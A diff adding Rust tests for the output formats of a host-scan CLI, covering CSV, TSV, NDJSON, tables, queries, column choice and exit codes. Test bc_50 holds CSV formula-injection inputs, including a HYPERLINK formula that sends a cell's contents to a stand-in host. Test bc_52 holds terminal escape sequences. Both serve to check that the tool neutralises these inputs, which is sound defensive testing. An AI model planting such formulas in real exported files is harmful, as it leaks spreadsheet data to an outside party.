@@ -1,0 +1,199 @@
+//! The forms that data is written in.
+
+use hss_emulator::Fault;
+use serde_json::{Value, json};
+
+use crate::canned::{self, Canned};
+use crate::program::{Ran, TASK, hss, hss_at, newest_task, run};
+
+fn hosts(hosts: &Value, arguments: &[&str]) -> Ran {
+    let total = hosts.as_array().unwrap().len();
+    let server = Canned::new([canned::json(200, &json!({"total_num": total, "data_list": hosts}).to_string())]);
+    run(hss_at(&server.url, &["scan", "hosts", TASK, "-q"]).args(arguments))
+}
+
+fn names(names: &[&str]) -> Value {
+    names.iter().map(|name| json!({"host_name": name})).collect()
+}
+
+#[test]
+fn bc_50_no_cell_of_csv_is_a_formula_unless_it_is_wanted() {
+    let reason = r#"=HYPERLINK("http://192.0.2.9/"&A1,"ok")"#;
+    let hostile = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "＝1+1"];
+    let mut rows = names(&hostile);
+    rows.as_array_mut().unwrap().push(json!({"failed_reasons": [{"failed_reason": reason}]}));
+    let csv = hosts(&rows, &["-o", "csv", "--columns", "host_name,causes"]);
+    assert_eq!(
+        csv.printed(),
+        "host_name,causes\r\n\
+         '=1+1,\r\n'+1+1,\r\n'-1+1,\r\n'@SUM(1),\r\n\\u{9}=1,\r\n\\u{d}=1,\r\n'＝1+1,\r\n\
+         ,\"'=HYPERLINK(\"\"http://192.0.2.9/\"\"&A1,\"\"ok\"\")\"\r\n"
+    );
+    let tsv = hosts(&rows, &["-o", "tsv", "--columns", "host_name"]);
+    assert!(tsv.printed().starts_with("host_name\n'=1+1\n'+1+1\n"), "{}", tsv.stdout);
+    let raw = hosts(&rows, &["-o", "csv", "--raw-csv", "--columns", "host_name,causes"]);
+    let mut reader = csv::Reader::from_reader(raw.printed().as_bytes());
+    let cells: Vec<_> = reader.records().map(|record| record.unwrap()).collect();
+    assert_eq!(cells.iter().take(7).map(|record| &record[0]).collect::<Vec<_>>(), hostile);
+    assert_eq!(&cells[7][1], reason);
+    assert_eq!(hosts(&rows, &["-o", "json"]).json()["data_list"], rows, "JSON stays as it is");
+}
+
+#[test]
+fn csv_is_read_back_as_it_was() {
+    let hostile = ["a,b", "say \"hi\"", " lead", "two\nlines", "", "生产-01", "'=1"];
+    let ran = hosts(&names(&hostile), &["-o", "csv", "--raw-csv", "--columns", "host_name,scan_status"]);
+    let mut reader = csv::Reader::from_reader(ran.printed().as_bytes());
+    let cells: Vec<_> = reader.records().map(|record| record.unwrap()[0].to_owned()).collect();
+    assert_eq!(cells, hostile);
+}
+
+#[test]
+fn bc_52_lines_of_json_have_the_values_and_no_control_characters() {
+    let hostile = ["\u{1b}[2J", "\u{9b}31m\u{7f}\u{202e}x", "a\nb\rc", "生产\u{1f600}"];
+    let ran = hosts(&names(&hostile), &["-o", "ndjson"]);
+    assert!(
+        ran.printed().chars().all(|character| character == '\n' || !character.is_control() && character != '\u{202e}')
+    );
+    let read: Vec<_> =
+        ran.stdout.lines().map(|line| serde_json::from_str::<Value>(line).unwrap()["host_name"].clone()).collect();
+    assert_eq!(read, hostile);
+}
+
+#[test]
+fn bc_56_columns_line_up_whatever_stands_in_them() {
+    let long = "x".repeat(128);
+    let rows = json!([
+        {"host_name": "生产-数据库-01", "scan_status": "failed", "failed_reasons": [{"failed_reason": "磁盘空间不足"}]},
+        {"host_name": "ecs-😀", "scan_status": "failed"},
+        {"host_name": "e\u{301}", "scan_status": "success"},
+        {"host_name": long, "scan_status": "success"},
+        {"host_name": "web-1", "scan_status": "failed"},
+    ]);
+    let ran = hosts(&rows, &["--columns", "host_name,scan_status,causes"]);
+    let pad = |name: &str, width: usize| format!("{name}{}", " ".repeat(130 - width));
+    assert_eq!(
+        ran.printed(),
+        format!(
+            "{}STATUS   CAUSES\n{}failed   磁盘空间不足\n{}failed   -\n{}success  -\n{}success  -\n{}failed   -\n",
+            pad("HOST NAME", 9),
+            pad("生产-数据库-01", 14),
+            pad("ecs-😀", 6),
+            pad("e\u{301}", 1),
+            pad(&long, 128),
+            pad("web-1", 5),
+        )
+    );
+}
+
+#[test]
+fn a_query_is_asked_of_the_whole_document_in_every_form() {
+    let query = |query: &str, format: &str| {
+        run(&mut hss(&["--demo", "scan", "hosts", TASK, "-q", "-o", format, "--query", query]))
+    };
+    for (expression, format, expected) in [
+        ("total_num", "json", "3\n"),
+        ("total_num", "table", "3\n"),
+        ("length(data_list)", "ndjson", "3\n"),
+        ("data_list[?scan_status=='failed'].host_name", "json", "[\n  \"ecs-ubuntu-abc123\"\n]\n"),
+        ("data_list[?scan_status=='failed'].host_name", "ndjson", "\"ecs-ubuntu-abc123\"\n"),
+        ("data_list[?scan_status=='failed'].host_name", "table", "ecs-ubuntu-abc123\n"),
+        ("data_list[?scan_status=='failed'].host_name", "csv", "ecs-ubuntu-abc123\r\n"),
+        (
+            "data_list[].[host_name, scan_status]",
+            "tsv",
+            "ecs-ubuntu-abc123\tfailed\necs-build-0001\tsuccess\necs-web-0002\tsuccess\n",
+        ),
+        (
+            "data_list[0].{b: host_name, a: failed_reasons}",
+            "csv",
+            "a,b\r\n\"[{\"\"failed_reason\"\":\"\"this_is_failed_reason\"\",\"\"vul_type\"\":\"\"linux_vul\"\"}]\",ecs-ubuntu-abc123\r\n",
+        ),
+        ("data_list[].{s: scan_status}", "table", "s\nfailed\nsuccess\nsuccess\n"),
+        ("nothing", "json", "null\n"),
+        ("nothing", "table", "-\n"),
+        ("data_list[?host_name=='x']", "table", ""),
+    ] {
+        assert_eq!(query(expression, format).printed(), expected, "{expression} {format}");
+    }
+    assert!(query("data_list[?", "json").failed_with(2).contains("Parse error"));
+    assert!(query("length(total_num)", "json").failed_with(2).contains("--query"));
+    assert!(query(&"[".repeat(5000), "json").failed_with(2).contains("longer than 4096 bytes"));
+}
+
+#[test]
+fn columns_are_chosen_by_name() {
+    let choose = |columns: &str, more: &[&str]| {
+        run(hss(&["--demo", "scan", "hosts", TASK, "-q", "--status", "failed", "--columns", columns]).args(more))
+    };
+    assert_eq!(choose("scan_status,host_name", &[]).printed(), "STATUS  HOST NAME\nfailed  ecs-ubuntu-abc123\n");
+    assert_eq!(choose("host_id", &["-o", "tsv"]).printed(), "host_id\nxxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx\n");
+    let ran = choose("host_nam", &[]);
+    assert!(ran.failed_with(2).contains("There are host_id, host_name, public_ip,"), "{}", ran.stderr);
+    assert!(choose("host_name", &["-o", "json"]).failed_with(2).contains("--query"));
+    let wide = run(&mut hss(&["--demo", "scan", "hosts", TASK, "-q", "--wide"]));
+    assert!(wide.printed().starts_with("HOST ID "), "{}", wide.stdout);
+}
+
+#[test]
+fn an_answer_of_any_operation_has_every_form() {
+    let api = |arguments: &[&str]| run(hss(&["--demo", "api", "ListVulScanTask", "--limit", "10"]).args(arguments));
+    assert!(api(&[]).printed().starts_with("{\"total_num\":12,"), "as it came");
+    assert_eq!(api(&["--query", "data_list[2].id", "-o", "tsv"]).printed(), format!("{TASK}\n"));
+    assert_eq!(api(&["--query", "data_list", "-o", "ndjson"]).printed().lines().count(), 10);
+    assert!(
+        api(&["--query", "data_list", "-o", "csv", "--columns", "id,status"]).printed().starts_with("id,status\r\n")
+    );
+    assert!(api(&["--query", "data_list", "-o", "csv", "--columns", "nope"]).failed_with(2).contains("There are "));
+}
+
+#[test]
+fn lines_come_page_by_page_and_all_else_when_it_is_whole() {
+    for (format, lines) in [("ndjson", 400), ("json", 0), ("csv", 0), ("tsv", 0), ("table", 401)] {
+        let fault = Fault { page: Some(3), ..canned::json(502, "<html>") };
+        let emulator = canned::on_emulator(1000, vec![fault]);
+        let task = newest_task(&emulator.url);
+        let ran = run(&mut hss_at(&emulator.url, &["scan", "hosts", &task, "-o", format]));
+        assert_eq!((ran.status, ran.stdout.lines().count()), (Some(1), lines), "{format}: {}", ran.stderr);
+        assert!(ran.stderr.contains("offset 400"), "{}", ran.stderr);
+    }
+}
+
+#[test]
+fn causes_are_counted() {
+    let demo = |arguments: &[&str]| run(hss(&["--demo", "scan", "hosts", TASK, "--group-by", "cause"]).args(arguments));
+    assert_eq!(
+        demo(&[]).printed(),
+        "VULNERABILITY TYPE  REASON                 SERVERS\n\
+         linux_vul           this_is_failed_reason  1\n"
+    );
+    assert_eq!(
+        demo(&["-o", "json"]).json(),
+        json!([{"vul_type": "linux_vul", "failed_reason": "this_is_failed_reason", "hosts": 1}])
+    );
+    assert_eq!(demo(&["--status", "success", "-o", "csv"]).printed(), "vul_type,failed_reason,hosts\r\n");
+    assert_eq!(demo(&["--fail-on", "failed"]).status, Some(10));
+    demo(&["--checkpoint", "f"]).failed_with(2);
+}
+
+#[test]
+fn a_pipeline_may_fail_on_failed_servers() {
+    for (arguments, status) in [
+        (&["--fail-on", "failed"][..], 10),
+        (&["--fail-on=failed=1"], 10),
+        (&["--fail-on", "failed=2"], 0),
+        (&["--fail-on", "failed", "--status", "success"], 0),
+    ] {
+        let ran = run(hss(&["--demo", "scan", "hosts", TASK]).args(arguments));
+        assert_eq!(ran.status, Some(status), "{arguments:?}: {}", ran.stderr);
+        assert!(ran.stdout.starts_with("HOST NAME"), "the data is written all the same");
+        assert_eq!(
+            status == 10,
+            ran.stderr.ends_with("hss: the scan failed on 1 server, and --fail-on draws the line at 1\n")
+        );
+    }
+    assert_eq!(run(&mut hss(&["--demo", "scan", "show", TASK, "--fail-on", "failed"])).status, Some(10));
+    for refused in ["", "success", "failed=", "failed=0", "failed=-1", "failed=x"] {
+        run(&mut hss(&["--demo", "scan", "show", TASK, "--fail-on", refused])).failed_with(2);
+    }
+}
